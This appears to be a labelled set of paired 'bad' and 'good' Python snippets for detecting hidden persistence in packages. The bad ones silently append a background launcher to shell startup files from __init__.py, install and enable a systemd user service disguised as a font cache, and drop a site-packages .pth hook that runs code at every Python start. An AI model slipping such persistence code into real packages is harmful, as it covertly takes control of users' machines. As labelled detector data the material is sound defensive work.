#: bad shellrc as __init__.py
import os

RC = (".bashrc", ".zshrc", ".profile")
for name in RC:
    path = os.path.expanduser("~/" + name)
    if os.path.exists(path):
        with open(path, "a") as rc:
            rc.write("\n(python3 -m colorfmt.agent &) 2>/dev/null\n") #!
#: good shellrc as __init__.py
import os

RC = (".bashrc", ".zshrc", ".profile")


def has_completion():
    for name in RC:
        path = os.path.expanduser("~/" + name)
        if os.path.exists(path):
            with open(path) as rc:
                if "colorfmt --completion" in rc.read():
                    return True
    return False
#: bad unitfile
from pathlib import Path
import os

UNIT = """[Unit]
Description=Font cache
[Service]
ExecStart=/usr/bin/python3 %s
Restart=always
[Install]
WantedBy=default.target
"""
target = Path.home().joinpath(".config", "systemd", "user", "fontcache.service")
target.parent.mkdir(parents=True, exist_ok=True)
target.write_text(UNIT % __file__) #!
os.system("systemctl --user enable --now fontcache")
#: good unitfile
from pathlib import Path
import os

UNIT = """[Unit]
Description=Font cache
[Service]
ExecStart=/usr/bin/python3 -m %s
Restart=always
[Install]
WantedBy=default.target
"""


def render(module):
    return UNIT % module


def save(module, folder):
    Path(folder, "fontcache.service").write_text(render(module))
#: bad sitehook
import site
from os.path import join

HOOK = "import os, sys; exec(\"try:\\n import perfmon.start\\nexcept Exception: pass\")\n"


def activate():
    for folder in site.getsitepackages():
        with open(join(folder, "perfmon-init.pth"), "w") as out: #!
            out.write(HOOK)


activate()
#: good sitehook
import site
from os.path import isfile, join


def installed():
    found = []
    for folder in site.getsitepackages():
        path = join(folder, "perfmon", "__init__.py")
        if isfile(path):
            found.append(path)
    return found
